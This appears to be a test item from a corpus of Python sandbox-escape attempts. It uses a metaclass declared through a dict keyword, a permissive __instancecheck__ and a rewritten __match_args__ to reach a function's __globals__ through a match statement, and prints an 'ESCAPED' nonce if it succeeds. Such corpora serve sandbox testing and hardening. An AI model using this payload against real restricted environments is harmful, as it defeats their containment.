# id: own-069 | family: class-walk | goal: a metaclass in disguise: the class keyword through a dict
# timeout: 5
T = type
class M(T):
    def __instancecheck__(cls, o):
        return True
class P(**{'metaclass': M}):
    __match_args__ = ('public',)
setattr(P, '__match_args__', ('__globals__',))
def f():
    pass
match f:
    case P(g):
        print('ESC' + 'APED_@@NONCE@@')
